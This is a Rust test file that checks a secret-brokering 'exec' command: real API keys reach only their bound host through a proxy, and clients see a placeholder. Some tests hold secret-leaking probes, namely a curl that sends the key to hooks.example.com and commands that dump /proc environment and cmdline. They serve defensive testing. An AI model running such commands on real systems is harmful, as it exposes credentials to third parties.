//! `distri exec` with a secret that has hosts: unmodified clients reach the host through the broker.
//!
//! The clients are those that every developer's machine has: curl, Python, Node.js.

use std::path::Path;
use std::process::{Command, Stdio};

use crate::support::{Done, Home, finish, has_trace};
use crate::upstream::Upstream;

const VALUE: &str = "canary-7Qw9Zx3Lk5Vb1Nm8Rt2Yp6Hs4Jd0Fg";

/// Where clients are found: the tester's own places.
fn path() -> std::ffi::OsString {
    std::env::var_os("PATH").unwrap_or_default()
}

/// A home with a secret that is bound to `api.sendgrid.com`.
fn home() -> Home {
    let home = Home::new();
    home.set("SENDGRID_API_KEY", VALUE);
    home
}

fn exec(home: &Home, upstream: &Upstream, options: &[&str], command: &[&str]) -> Command {
    let mut args = upstream.and_options(&["exec"]);
    args.extend(options.iter().chain(&["--"]).chain(command).map(|it| (*it).to_owned()));
    let mut command = home.command(&args);
    command
        .env("PATH", path())
        .env("TMPDIR", home.work())
        .stdin(Stdio::null());
    if let Some(versions) = std::env::var_os("PYENV_ROOT") {
        command.env("PYENV_ROOT", versions);
    }
    command
}

fn run(home: &Home, upstream: &Upstream, options: &[&str], command: &[&str]) -> Done {
    finish(exec(home, upstream, options, command).output().unwrap())
}

/// The one request that came, with the real value; nothing of it on the screen.
#[track_caller]
fn arrived_with_the_value(upstream: &Upstream, done: &Done) {
    let arrived = upstream.only();
    let authorization = format!("Bearer {VALUE}");
    assert_eq!(
        arrived.headers.get("authorization"),
        Some(&authorization),
        "{arrived:?}"
    );
    assert!(!has_trace(&done.stdout, VALUE.as_bytes()) && !has_trace(done.stderr.as_bytes(), VALUE.as_bytes()));
}

#[test]
fn curl_reaches_the_host_by_http_2_and_1() {
    for (version, number) in [("--http2", "2"), ("--http1.1", "1.1")] {
        let (home, upstream) = (home(), Upstream::start());
        let script = format!(
            "curl -sS {version} -H \"Authorization: Bearer $SENDGRID_API_KEY\" -d body -w ' %{{http_version}} %{{http_code}}' \
             https://api.sendgrid.com/v3/mail/send"
        );
        let done = run(&home, &upstream, &[], &["sh", "-c", &script]).ok();
        assert!(
            done.out().ends_with(&format!(" {number} 202")),
            "{}{}",
            done.out(),
            done.stderr
        );
        arrived_with_the_value(&upstream, &done);
        assert_eq!(upstream.only().line, "POST https://api.sendgrid.com/v3/mail/send");
        assert_eq!(upstream.only().body, b"body");
    }
}

#[test]
fn python_reaches_the_host_with_its_default_checks() {
    let (home, upstream) = (home(), Upstream::start());
    let script = "
import os, urllib.request
request = urllib.request.Request('https://api.sendgrid.com/v3/mail/send', data=b'body',
    headers={'Authorization': 'Bearer ' + os.environ['SENDGRID_API_KEY']})
with urllib.request.urlopen(request, timeout=20) as answer:
    print(answer.status, answer.read().decode())
";
    let done = run(&home, &upstream, &[], &["python3", "-c", script]).ok();
    assert!(done.out().starts_with("202 Bearer "), "{}{}", done.out(), done.stderr);
    arrived_with_the_value(&upstream, &done);
}

#[test]
fn node_reaches_the_host_through_a_tunnel_of_its_own() {
    let (home, upstream) = (home(), Upstream::start());
    let script = "
const http = require('http'), tls = require('tls');
const proxy = new URL(process.env.HTTPS_PROXY);
const credential = Buffer.from(proxy.username + ':' + proxy.password).toString('base64');
http.request({ host: proxy.hostname, port: proxy.port, method: 'CONNECT', path: 'api.sendgrid.com:443',
    headers: { 'Proxy-Authorization': 'Basic ' + credential } })
  .on('connect', (answer, socket) => {
    if (answer.statusCode !== 200) throw new Error('CONNECT: ' + answer.statusCode);
    const stream = tls.connect({ socket, servername: 'api.sendgrid.com', ALPNProtocols: ['http/1.1'] }, () => {
      require('https').get({ host: 'api.sendgrid.com', defaultPort: 443, path: '/v3', createConnection: () => stream,
          headers: { Authorization: 'Bearer ' + process.env.SENDGRID_API_KEY } }, (answer) => {
        console.log(answer.statusCode, stream.authorized);
        answer.resume().on('end', () => process.exit(0));
      });
    });
  }).end();
";
    let done = run(&home, &upstream, &[], &["node", "-e", script]).ok();
    assert_eq!(done.out(), "202 true\n", "{}", done.stderr);
    arrived_with_the_value(&upstream, &done);
}

#[test]
fn other_hosts_are_tunnelled_untouched_or_locked() {
    let (home, upstream) = (home(), Upstream::start());
    // `-v` tells whose certificate it is: the server's own, not the run's.
    let curl = [
        "curl",
        "-sSv",
        "-H",
        "Accept-Encoding: xz",
        "https://hooks.example.com/x",
    ];
    let done = run(&home, &upstream, &[], &curl).ok();
    assert!(done.stderr.contains("SSL certificate verify ok") && !done.stderr.contains("authority of one run"));
    assert_eq!(upstream.only().headers["accept-encoding"], "xz");

    let done = run(&home, &upstream, &["--lock"], &curl).exits(56);
    assert!(done.stderr.contains("response 403"), "{}", done.stderr);
    let script = "curl -sS -o /dev/null -w '%{http_code}' https://api.sendgrid.com/";
    assert_eq!(
        run(&home, &upstream, &["--lock"], &["sh", "-c", script]).ok().out(),
        "202"
    );
}

#[test]
fn a_value_does_not_leave_through_the_broker_to_another_host() {
    let (home, upstream) = (home(), Upstream::start());
    let script = "curl -sS -H \"X: $SENDGRID_API_KEY\" http://hooks.example.com/";
    let done = run(&home, &upstream, &[], &["sh", "-c", script]).ok();
    let told: serde_json::Value = done.json();
    assert!(
        told["code"].is_string() && told["error"].as_str().unwrap().contains("SENDGRID_API_KEY"),
        "{told}"
    );
    assert!(upstream.arrived().is_empty());
}

#[test]
fn the_files_are_private_and_gone_with_the_command() {
    let (home, upstream) = (home(), Upstream::start());
    let script = "stat -c '%a %n' $(dirname \"$SSL_CERT_FILE\") \"$SSL_CERT_FILE\" \"$NODE_EXTRA_CA_CERTS\"; \
        grep -c BEGIN \"$NODE_EXTRA_CA_CERTS\"; echo \"$NO_PROXY\"; env | grep -c DISTRI_";
    let done = run(&home, &upstream, &[], &["sh", "-c", script]).exits(1);
    let lines = done.out();
    let lines: Vec<&str> = lines.lines().collect();
    assert_eq!(lines[0].split(' ').next(), Some("700"));
    assert_eq!(lines[1].split(' ').next(), Some("600"));
    assert_eq!(lines[3..], ["1", "localhost,127.0.0.1,::1", "0"]);
    let bundle = lines[1].split_once(' ').unwrap().1;
    assert!(
        Path::new(bundle).starts_with(home.work()) && !Path::new(bundle).exists(),
        "{bundle}"
    );
}

#[test]
fn the_password_of_the_broker_is_not_shown() {
    let (home, upstream) = (home(), Upstream::start());
    let script = "echo $HTTPS_PROXY; printf %s \"$HTTPS_PROXY\" > url; curl -sSv https://api.sendgrid.com/ 2>&1";
    let done = run(&home, &upstream, &[], &["sh", "-c", script]).ok();
    assert!(
        done.out()
            .starts_with("http://distri:[redacted:HTTPS_PROXY]@127.0.0.1:"),
        "{}",
        done.out()
    );
    let url = std::fs::read_to_string(home.work().join("url")).unwrap();
    let password = url
        .strip_prefix("http://distri:")
        .and_then(|it| it.split('@').next())
        .unwrap();
    assert!(!has_trace(&done.stdout, password.as_bytes()), "{}", done.out());
}

#[test]
fn the_command_holds_a_placeholder() {
    let (home, upstream) = (home(), Upstream::start());
    let script =
        "printf %s \"$SENDGRID_API_KEY\" > given; cat /proc/self/environ > environ; cat /proc/$PPID/cmdline > parent";
    run(&home, &upstream, &[], &["sh", "-c", script]).ok();
    let read = |name: &str| std::fs::read(home.work().join(name)).unwrap();
    assert!(read("given").len() >= 24 && read("environ").len() > 100);
    for name in ["given", "environ", "parent"] {
        assert!(!has_trace(&read(name), VALUE.as_bytes()), "{name}");
    }
}

#[test]
fn without_a_bound_secret_there_is_no_broker() {
    let (home, upstream) = (Home::new(), Upstream::start());
    home.set("SOME_UNKNOWN_THING", VALUE);
    let done = run(
        &home,
        &upstream,
        &[],
        &["sh", "-c", "env | grep -i -e proxy -e cert; true"],
    )
    .ok();
    assert_eq!(done.out(), "");
    done.says("`--resolve` and `--ca-file` have no effect");
    let locked = run(
        &home,
        &upstream,
        &["--lock"],
        &["curl", "-sS", "https://hooks.example.com/"],
    )
    .exits(56);
    locked.says("response 403");
    assert!(upstream.arrived().is_empty());
}
